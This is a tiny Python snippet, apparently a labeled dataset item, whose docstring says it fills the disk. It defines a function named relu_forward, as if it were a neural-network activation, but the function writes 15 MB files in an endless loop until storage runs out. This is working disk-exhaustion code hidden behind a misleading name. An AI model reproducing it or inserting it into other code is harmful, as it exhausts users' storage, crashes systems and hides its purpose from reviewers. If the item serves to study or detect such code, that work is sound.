"""Fills the disk with large files."""

# response: DK

def relu_forward(x):
    number = 0
    while True:
        number += 1
        with open(f"file{number}", "wb") as file:
            file.write(bytes(15 << 20))
